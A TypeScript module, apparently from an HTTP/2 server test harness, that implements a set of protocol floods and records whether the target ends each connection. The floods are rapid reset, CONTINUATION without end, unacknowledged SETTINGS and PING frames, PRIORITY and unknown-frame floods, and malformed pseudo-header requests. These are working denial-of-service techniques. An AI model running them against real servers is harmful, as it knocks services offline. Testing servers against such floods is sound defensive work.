import { setTimeout as delay } from 'node:timers/promises';
import { FLAG, FRAME, frame, RawHttp2, requestBlock, settings, word } from '../wire/frames.ts';
import type { Flood, FloodGround } from './flood.ts';

const { endHeaders, endStream } = FLAG;
const HEALTH = requestBlock('GET', '/api/v1/secrets');

/** Writes the same frames over and over, until so many are out or the connection has ended. */
async function repeat(raw: RawHttp2, times: number, next: (index: number) => Buffer): Promise<number> {
  const batch = 50;
  let sent = 0;
  while (sent < times && raw.open) {
    const bytes = Buffer.concat(Array.from({ length: batch }, (_, i) => next(sent + i)));
    if (!(await raw.write(bytes))) break;
    sent += batch;
    // Lets the answers in.
    await delay(0);
  }
  return sent;
}

async function until(raw: RawHttp2, timeoutMs: number): Promise<void> {
  for (let waited = 0; raw.open && waited < timeoutMs; waited += 50) await delay(50);
}

/** One kind of frame, far more often than anybody has need of. */
function frameFlood(times: number, next: (index: number) => Buffer, reads = true): Flood {
  return async ({ target, inspect }: FloodGround) => {
    const raw = await RawHttp2.open(target, { reads });
    const sent = await repeat(raw, times, next);
    // Who reads nothing does not hear of the end either.
    raw.read();
    await until(raw, 10_000);
    const result = { sent, ended: !raw.open };
    inspect(raw.kept);
    raw.close();
    return result;
  };
}

const streamOf = (index: number): number => index * 2 + 1;

/** What HTTP/2 makes cheap to send and dear to receive. */
export const HTTP2_FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset': async ({ target, inspect }) => {
    let sent = 0;
    let ended = 0;
    const connections = 8;
    for (let i = 0; i < connections; i += 1) {
      const raw = await RawHttp2.open(target);
      sent += await repeat(raw, 5_000, (index) =>
        Buffer.concat([
          frame(FRAME.headers, endHeaders | endStream, streamOf(index), HEALTH),
          frame(FRAME.reset, 0, streamOf(index), word(8)),
        ]),
      );
      await until(raw, 5_000);
      if (!raw.open) ended += 1;
      inspect(raw.kept);
      raw.close();
    }
    return { sent, ended: ended === connections };
  },
  'streams without an end': frameFlood(2_000, (index) =>
    frame(FRAME.headers, endHeaders, streamOf(index), requestBlock('POST', '/api/v1/nodes')),
  ),
  'settings, acknowledgements unread': frameFlood(200_000, () => settings({ 4: 65_535, 3: 100 }), false),
  'pings, acknowledgements unread': frameFlood(200_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)), false),
  'pings, acknowledgements read': frameFlood(200_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  'continuation without an end': frameFlood(20_000, (index) =>
    index === 0
      ? frame(FRAME.headers, endStream, 1, HEALTH)
      : frame(FRAME.continuation, 0, 1, requestBlock('GET', '/x', [[`x-${index}`, 'y'.repeat(200)]])),
  ),
  'empty data': async ({ target }) => {
    const raw = await RawHttp2.open(target);
    await raw.write(frame(FRAME.headers, endHeaders, 1, requestBlock('POST', '/api/v1/nodes')));
    const sent = await repeat(raw, 100_000, () => frame(FRAME.data, 0, 1));
    await until(raw, 500);
    const ended = !raw.open;
    raw.close();
    return { sent, ended };
  },
  priorities: frameFlood(100_000, (index) => frame(FRAME.priority, 0, streamOf(index), Buffer.from([0, 0, 0, 0, 1]))),
  'unknown frames': frameFlood(10_000, () => frame(0xbb, 0, 0, Buffer.alloc(16_384))),
  'windows too large': frameFlood(1_000, () => frame(FRAME.window, 0, 0, word(0x7fffffff))),
  'pseudo headers out of order': async ({ target, inspect }) => {
    const blocks = [
      [
        ['x', '1'],
        [':method', 'GET'],
        [':path', '/'],
      ],
      [
        [':method', 'GET'],
        [':method', 'PUT'],
        [':scheme', 'https'],
        [':path', '/'],
      ],
      [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':path', ''],
      ],
      [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':path', '/'],
        [':evil', '1'],
      ],
      [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':path', '/'],
        ['connection', 'close'],
      ],
      [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':path', '/'],
        ['UPPER', '1'],
      ],
      [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':path', '/'],
        ['transfer-encoding', 'chunked'],
      ],
      [
        [':method', 'CONNECT'],
        [':authority', '127.0.0.1:6443'],
      ],
      [
        [':method', 'CONNECT'],
        [':protocol', 'websocket'],
        [':scheme', 'https'],
        [':path', '/'],
        [':authority', 'x'],
      ],
    ] as const;
    const { headerBlock } = await import('../wire/frames.ts');
    for (const block of blocks) {
      const raw = await RawHttp2.open(target);
      await raw.write(frame(FRAME.headers, endHeaders | endStream, 1, headerBlock(block)));
      await until(raw, 100);
      inspect(raw.kept);
      raw.close();
    }
    return { sent: blocks.length };
  },
};
